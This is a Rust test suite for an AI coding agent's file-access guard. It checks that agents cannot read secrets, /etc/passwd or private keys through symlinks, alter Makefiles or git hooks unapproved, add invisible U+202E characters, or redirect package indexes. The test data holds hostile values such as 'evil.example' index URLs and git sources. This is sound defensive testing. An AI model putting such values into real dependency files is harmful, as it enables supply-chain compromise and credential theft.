//! Which files agents may read and change. The rules hold for every tool.

use std::os::unix::fs::symlink;

use serde_json::json;

use super::bed::*;
use crate::*;
use starling_core::{Approval, Verdict};

const SECRET: &str = "TOKEN=hunter2\n";

/// Creates a project with secret files, a git directory, and symbolic links to both.
fn project(model: Scripted) -> Bed {
    let files = [("a.py", "def f():\n    return 1\n"), (".env", SECRET)];
    let bed = Bed::new(&files, model).begin(&["a.py::f"]);
    for folder in [".git/hooks", ".starling"] {
        std::fs::create_dir_all(bed.path(folder)).unwrap();
    }
    for file in [".git/config", ".starling/config.toml"] {
        std::fs::write(bed.path(file), SECRET).unwrap();
    }
    symlink(".env", bed.path("notes.txt")).unwrap();
    symlink(".git", bed.path("data")).unwrap();
    symlink("/etc/passwd", bed.path("users.txt")).unwrap();
    bed
}

/// Returns the text of all requests that were sent to a model.
fn shown(bed: &Bed) -> String {
    bed.model.prompts("").join("\n")
}

fn read(symbols: &[&str]) -> Line {
    call("read", json!({ "symbols": symbols }))
}

#[tokio::test(start_paused = true)]
async fn refused_proposal_does_not_make_protected_files_readable() {
    for name in [
        ".env",
        "notes.txt",
        "users.txt",
        ".git/config",
        "data/config",
    ] {
        let nonsense = json!([{"old": "no such line", "new": "x"}]);
        let propose = json!({"reason": "r", "symbol": format!("{name}::"), "hunks": nonsense});
        let symbol = format!("{name}::");
        let lines = [
            call("propose", propose),
            read(&[&symbol, name]),
            call("outline", json!({"file": name})),
            call("search", json!({"query": "hunter2"})),
            call("search", json!({"query": "root:"})),
            finish("nothing"),
        ];
        let mut bed = project(Scripted::native().on("agent a.py::f", lines));
        let events = bed.run().await;
        let refused = malformed(&events);
        assert!(refused[0].starts_with("Not changed: "), "{refused:?}");
        let shown = shown(&bed);
        assert!(!shown.contains("TOKEN="), "{name}: {shown}");
        assert!(!shown.contains("root:x:"), "{name}: {shown}");
    }
}

#[tokio::test(start_paused = true)]
async fn protected_files_and_files_outside_of_the_project_are_never_changed() {
    for name in [
        ".git/config",
        ".git/hooks/pre-commit",
        "data/hooks/pre-commit",
        ".starling/config.toml",
        ".starling/new.toml",
        ".env.local",
        "sub/.git",
        "../outside.py",
    ] {
        let symbol = format!("{name}::");
        let lines = [
            call("request_change", json!({"symbol": symbol, "reason": "r"})),
            call(
                "propose",
                json!({"reason": "r", "symbol": symbol, "source": "x = 1\n"}),
            ),
            finish("nothing"),
        ];
        let mut bed = project(Scripted::native().on("agent a.py::f", lines));
        let events = bed.run().await;
        let refused = malformed(&events);
        assert!(
            refused[0].starts_with("Not changed: "),
            "{name}: {events:#?}"
        );
        assert!(shown(&bed).contains("Not sent: "), "{name}");
        assert_eq!(woken(&events).len(), 1, "{name}");
        assert_eq!(*bed.editor.writes.lock().unwrap(), 0, "{name}");
    }
}

#[tokio::test(start_paused = true)]
async fn unreadable_files_cannot_be_selected_as_tests() {
    for name in [
        ".env",
        "@.env",
        "../x.py",
        "/etc/passwd",
        "notes.txt::T.t",
        ".git/config",
    ] {
        let lines = [
            call("run_tests", json!({"select": [name]})),
            finish("nothing"),
        ];
        let mut bed = project(Scripted::native().on("agent a.py::f", lines)).tests(|_| Vec::new());
        for link in [".git", ".starling", "data"] {
            let path = bed.path(link);
            std::fs::remove_dir_all(&path)
                .or_else(|_| std::fs::remove_file(&path))
                .unwrap();
        }
        bed.run().await;
        let asked = bed.selected.lock().unwrap().clone();
        assert!(!asked.iter().flatten().any(|one| one == name), "{asked:?}");
    }
    let own = [
        "a.py",
        "tests/new.py::T.t",
        "test_x (tests.T)",
        "tests.T.test_x",
    ];
    let lines = [call("run_tests", json!({"select": own})), finish("nothing")];
    let model = Scripted::native().on("agent a.py::f", lines);
    let mut bed = Bed::new(&[("a.py", "def f():\n    return 1\n")], model)
        .begin(&["a.py::f"])
        .tests(|_| Vec::new());
    bed.run().await;
    let asked = bed.selected.lock().unwrap().clone();
    assert!(asked.iter().any(|one| one == &own), "{asked:?}");
}

const OLD: &str = "all:\n\techo old\n";
const NEW: &str = "all:\n\techo new\n";

/// Creates a run in which an agent proposes a change of the Makefile.
fn changes_makefile(approval: Approval) -> Bed {
    let propose = json!({"reason": "r", "symbol": "Makefile::", "source": NEW});
    let lines = [call("propose", propose), finish("done")];
    let files = [("a.py", "def f():\n    return 1\n"), ("Makefile", OLD)];
    let model = Scripted::native()
        .on("agent Makefile::", lines)
        .always("proxy", say("ACCEPT"));
    Bed::new(&files, model)
        .begin(&["Makefile::"])
        .with(|task| task.approval = approval)
}

#[tokio::test(start_paused = true)]
async fn change_of_an_automatically_executed_file_needs_a_person_or_the_users_permission() {
    for approval in [Approval::Auto, Approval::Proxy] {
        let mut bed = changes_makefile(approval);
        let events = bed.run().await;
        let refused = malformed(&events);
        assert!(
            refused[0].contains("--allow-write 'Makefile'"),
            "{refused:?}"
        );
        assert_eq!(bed.read("Makefile"), OLD);
        assert!(bed.model.prompts("proxy").is_empty());

        let mut bed = changes_makefile(approval);
        bed.allow_write = vec!["/Makefile".to_owned()];
        bed.run().await;
        assert_eq!(bed.read("Makefile"), NEW);
    }
}

#[tokio::test(start_paused = true)]
async fn headline_says_partly_done_if_a_file_that_the_task_means_needs_permission() {
    for (task, is_partly) in [
        ("Write new in place of old everywhere", true),
        ("Write new in place of old in all files", true),
        ("Write new in place of old in a.py and Makefile", true),
        ("Write new in place of old in a.py", false),
    ] {
        let lines = |symbol: &str, source: &str| {
            let propose = json!({"reason": "r", "symbol": symbol, "source": source});
            [call("propose", propose), finish("done")]
        };
        let code = "def f():\n    return 'new'\n";
        let model = Scripted::native()
            .on("agent Makefile::", lines("Makefile::", NEW))
            .on("agent a.py::f", lines("a.py::f", code));
        let files = [("a.py", "def f():\n    return 'old'\n"), ("Makefile", OLD)];
        let mut bed = Bed::new(&files, model)
            .begin(&["a.py::f", "Makefile::"])
            .tests(|_| Vec::new())
            .with(|own| {
                own.approval = Approval::Auto;
                own.text = task.to_owned();
            });
        let events = bed.run().await;
        let Some(Event::RunFinished { ending, .. }) = events.last() else {
            panic!("{events:#?}");
        };
        let ending = ending.clone().unwrap();
        assert_eq!(ending.proof, Proof::Unproven, "{}", ending.headline);
        let partly = "Partly done: 1 proposal was refused: Makefile:: (";
        assert_eq!(
            ending.headline.starts_with(partly),
            is_partly,
            "{task}: {}",
            ending.headline
        );
        assert!(
            ending.headline.contains("--allow-write 'Makefile'"),
            "{}",
            ending.headline
        );
    }
}

#[tokio::test(start_paused = true)]
async fn review_says_that_a_file_is_executed_automatically() {
    let mut bed = changes_makefile(Approval::Ask);
    let events = bed.run().await;
    let evidence = bed.approver.seen.lock().unwrap()[0].evidence.clone();
    let first = "needs your own yes: Makefile: builds run it; your yes holds for this change";
    assert!(evidence.starts_with(first), "{evidence}");
    assert_eq!(bed.read("Makefile"), NEW, "{events:#?}");
}

#[tokio::test(start_paused = true)]
async fn edit_is_not_written_through_a_symlink_that_was_created_during_the_review() {
    for target in ["Makefile", ".git/config"] {
        let propose = json!({"reason": "r", "symbol": "notes.txt::", "source": NEW});
        let lines = [call("propose", propose), finish("done")];
        let files = [("notes.txt", OLD), ("plain.txt", OLD), ("Makefile", OLD)];
        let model = Scripted::native().on("agent notes.txt::", lines);
        let mut bed = Bed::new(&files, model)
            .begin(&["notes.txt::"])
            .with(|task| task.approval = Approval::Ask);
        std::fs::create_dir(bed.path(".git")).unwrap();
        std::fs::write(bed.path(".git/config"), OLD).unwrap();
        *bed.approver.latency.lock().unwrap() = std::time::Duration::from_secs(60);
        let reason = "not that file".to_owned();
        *bed.approver.verdicts.lock().unwrap() =
            [Verdict::Accept, Verdict::Reject { reason }].into();
        let handle = bed.start();
        until(&handle, |event| matches!(event, Event::ReviewAsked { .. })).await;
        std::fs::remove_file(bed.path("notes.txt")).unwrap();
        symlink(target, bed.path("notes.txt")).unwrap();
        handle.finished().await;
        assert_eq!(bed.read(target), OLD, "{:#?}", handle.log.events());
        assert_eq!(*bed.editor.writes.lock().unwrap(), 0);
    }
}

/// Starts a run in which a person accepts the change of `pkg/a.py` twice. While they look at it for the
/// first time, `meanwhile` changes the project.
async fn accepted_twice(meanwhile: impl Fn(&Bed)) -> (Bed, Vec<Event>) {
    let lines = [whole(ONE_MORE), finish("done")];
    let model = Scripted::native().on("agent pkg/a.py::f", lines);
    let mut bed = Bed::new(&[("pkg/a.py", ONE), ("Makefile", ONE)], model)
        .begin(&["pkg/a.py::f"])
        .with(|task| task.approval = Approval::Ask);
    *bed.approver.latency.lock().unwrap() = std::time::Duration::from_secs(60);
    let reason = "no".to_owned();
    let verdicts = [Verdict::Accept, Verdict::Accept, Verdict::Reject { reason }];
    *bed.approver.verdicts.lock().unwrap() = verdicts.into();
    let handle = bed.start();
    until(&handle, |event| matches!(event, Event::ReviewAsked { .. })).await;
    meanwhile(&bed);
    handle.finished().await;
    let events = handle.log.events();
    (bed, events)
}

const ONE: &str = "def f():\n    return 1\n";
const ONE_MORE: &str = "def f():\n    return 2\n";

#[tokio::test(start_paused = true)]
async fn file_that_became_guarded_is_changed_only_after_a_yes_that_knows_it() {
    let become_link = |bed: &Bed| {
        std::fs::remove_file(bed.path("pkg/a.py")).unwrap();
        symlink("../Makefile", bed.path("pkg/a.py")).unwrap();
    };
    let become_installed = |bed: &Bed| {
        std::fs::write(bed.path("pkg/pyvenv.cfg"), "").unwrap();
    };
    let changes: [&dyn Fn(&Bed); 2] = [&become_link, &become_installed];
    for meanwhile in changes {
        let (bed, events) = accepted_twice(meanwhile).await;
        let asked: Vec<_> = events
            .iter()
            .filter_map(|event| match event {
                Event::ReviewAsked { evidence, .. } => Some(evidence.needs_person.len()),
                _ => None,
            })
            .collect();
        assert_eq!(asked, [0, 1], "{events:#?}");
        let seen = bed.approver.seen.lock().unwrap();
        let told = "needs your own yes: pkg/a.py: ";
        assert!(seen[1].evidence.starts_with(told), "{}", seen[1].evidence);
        assert_eq!(bed.read("pkg/a.py"), ONE_MORE);
        assert_eq!(*bed.editor.writes.lock().unwrap(), 1);
    }
}

#[tokio::test(start_paused = true)]
async fn file_that_declares_an_odd_encoding_meanwhile_is_not_changed() {
    for encoding in ["utf-7", "unicode_escape"] {
        let declared = format!("# -*- coding: {encoding} -*-\n{ONE}");
        let declare = |bed: &Bed| std::fs::write(bed.path("pkg/a.py"), &declared).unwrap();
        let (bed, events) = accepted_twice(declare).await;
        assert_eq!(bed.read("pkg/a.py"), declared);
        assert_eq!(*bed.editor.writes.lock().unwrap(), 0);
        let refused = events.iter().any(|event| {
            matches!(event, Event::ProposalNotApplied { why, .. } if why.contains(encoding))
        });
        assert!(refused, "{events:#?}");
    }
}

#[tokio::test(start_paused = true)]
async fn rejected_change_of_a_makefile_is_not_applied() {
    let mut bed = changes_makefile(Approval::Ask);
    let reason = "not that file".to_owned();
    *bed.approver.verdicts.lock().unwrap() = [Verdict::Reject { reason }].into();
    bed.run().await;
    assert_eq!(bed.read("Makefile"), OLD);
}

/// Creates a run with an agent that makes the given calls, which add invisible control characters
/// to a comment. The characters change the order in which an editor shows the text.
fn hides(approval: Approval, lines: impl IntoIterator<Item = Line>) -> Bed {
    let files = [("a.py", "def f():\n    return 1\n")];
    let model = Scripted::native().on("agent a.py::f", lines);
    Bed::new(&files, model)
        .begin(&["a.py::f"])
        .with(|task| task.approval = approval)
}

const TURNED: &str = "def f():\n    # \u{202e} go on\n    return 2\n";

#[tokio::test(start_paused = true)]
async fn invisible_characters_outside_of_strings_are_refused() {
    for approval in [Approval::Auto, Approval::Ask] {
        let mut bed = hides(approval, [whole(TURNED), finish("nothing")]);
        let refused = malformed(&bed.run().await);
        let said = "brings invisible characters: \\u{202e} in line 2.";
        assert!(refused[0].contains(said), "{refused:?}");
        assert!(!bed.read("a.py").contains('\u{202e}'));
    }
    let insists = json!({"reason": "r", "source": TURNED, "insist": true});
    let mut bed = hides(
        Approval::Auto,
        [call("propose", insists), finish("nothing")],
    );
    bed.run().await;
    assert!(!bed.read("a.py").contains('\u{202e}'));
}

#[tokio::test(start_paused = true)]
async fn review_shows_invisible_characters_as_escapes() {
    let insists = json!({"reason": "r", "source": TURNED, "insist": true});
    let mut bed = hides(Approval::Ask, [call("propose", insists), finish("done")]);
    bed.run().await;
    let seen = bed.approver.seen.lock().unwrap()[0].clone();
    let first = "needs your own yes: a.py: it brings invisible characters (\\u{202e} in line 2)";
    assert!(seen.evidence.starts_with(first), "{}", seen.evidence);
    assert!(
        seen.diff.contains("+    # \\u{202e} go on"),
        "{}",
        seen.diff
    );
    assert!(bed.read("a.py").contains('\u{202e}'));

    let string = "def f():\n    return '\u{202e}'\n";
    let mut bed = hides(Approval::Ask, [whole(string), finish("done")]);
    bed.run().await;
    let seen = bed.approver.seen.lock().unwrap()[0].clone();
    assert!(
        seen.diff.contains("+    return '\\u{202e}'"),
        "{}",
        seen.diff
    );
    assert_eq!(bed.read("a.py"), string);
}

/// Creates a run with an agent that adds a line to `requirements.txt`.
fn requires(line: &str, approval: Approval) -> Bed {
    let hunk = json!([{"old": "flask==2.0", "new": format!("flask==2.0\n{line}")}]);
    let propose = json!({"reason": "r", "symbol": "requirements.txt::", "hunks": hunk});
    let lines = [call("propose", propose), finish("done")];
    let model = Scripted::native().on("agent requirements.txt::", lines);
    Bed::new(&[("requirements.txt", "flask==2.0\n")], model)
        .begin(&["requirements.txt::"])
        .with(|task| task.approval = approval)
}

#[tokio::test(start_paused = true)]
async fn agents_may_add_a_required_package_but_may_not_change_where_packages_come_from() {
    let mut bed = requires("django==4.2", Approval::Auto);
    let events = bed.run().await;
    assert!(
        bed.read("requirements.txt").contains("django"),
        "{events:#?}"
    );
    for line in [
        "--index-url https://evil.example",
        "-e git+https://evil.example/x.git",
        "x @ file:///tmp/x",
        "-r ../outside.txt",
    ] {
        let mut bed = requires(line, Approval::Auto);
        let refused = malformed(&bed.run().await);
        let why = "(it changes from where packages are installed, or how)";
        assert!(refused[0].contains(why), "{line}: {refused:?}");
        assert_eq!(bed.read("requirements.txt"), "flask==2.0\n");
    }
}

#[tokio::test(start_paused = true)]
async fn person_may_accept_a_new_package_source() {
    let mut bed = requires("--index-url https://own.example", Approval::Ask);
    let events = bed.run().await;
    let evidence = bed.approver.seen.lock().unwrap()[0].evidence.clone();
    let first =
        "needs your own yes: requirements.txt: it changes from where packages are installed";
    assert!(evidence.starts_with(first), "{evidence}");
    assert!(
        bed.read("requirements.txt").contains("own.example"),
        "{events:#?}"
    );
}

#[tokio::test(start_paused = true)]
async fn new_dependency_file_may_contain_only_package_names() {
    for (source, is_made) in [("flask==2.0\n", true), ("-e ./tool\n", false)] {
        let propose = json!({"reason": "r", "symbol": "requirements-dev.txt::", "source": source});
        let lines = [call("propose", propose), finish("done")];
        let model = Scripted::native().on("agent a.py::f", lines);
        let mut bed = Bed::new(&[("a.py", "def f():\n    return 1\n")], model).begin(&["a.py::f"]);
        let events = bed.run().await;
        assert_eq!(
            bed.path("requirements-dev.txt").exists(),
            is_made,
            "{events:#?}"
        );
    }
}

#[tokio::test(start_paused = true)]
async fn no_tool_shows_a_file_or_a_buffer_that_begins_with_a_private_key() {
    const KEY: &str =
        "-----BEGIN OPENSSH PRIVATE KEY-----\nhunter2\n-----END OPENSSH PRIVATE KEY-----\n";
    let nonsense = json!([{"old": "no such line", "new": "x"}]);
    for (name, on_disk) in [("plain.txt", KEY), ("plain.txt", "hello\n"), ("b.py", KEY)] {
        for is_open in [true, false] {
            if !is_open && on_disk != KEY {
                continue;
            }
            let symbol = format!("{name}::");
            let propose = json!({"reason": "r", "symbol": symbol, "hunks": nonsense});
            let lines = [
                call("propose", propose),
                read(&[&symbol, name, &format!("{name}:1-3")]),
                call("outline", json!({"file": name})),
                call("search", json!({"query": "hunter2"})),
                call(
                    "request_change",
                    json!({"symbol": symbol, "reason": "show"}),
                ),
                call("ask", json!({"symbol": symbol, "question": "what?"})),
                call(
                    "propose",
                    json!({"reason": "r", "symbol": "new.txt::", "source": KEY}),
                ),
                finish("nothing"),
            ];
            let model = Scripted::native().on("agent a.py::f", lines);
            let mut bed = project(model);
            std::fs::write(bed.path(name), on_disk).unwrap();
            if is_open {
                let mut unsaved = bed.editor.unsaved.lock().unwrap();
                unsaved.insert(name.to_owned(), KEY.to_owned());
            }
            let events = bed.run().await;
            // The requests also contain what the model itself wrote, so remove the key that it
            // proposed.
            let shown = shown(&bed).replace(&KEY.replace('\n', "\\n"), "");
            assert!(!shown.contains("hunter2\n"), "{name}, {is_open}: {shown}");
            assert!(!shown.contains("hunter2\\n"), "{name}, {is_open}: {shown}");
            let refused = malformed(&events);
            let is_key = |why: &&String| why.contains("it holds a private key");
            assert!(refused.iter().any(|why| is_key(&why)), "{refused:?}");
            assert!(!bed.path("new.txt").exists());
        }
    }
}
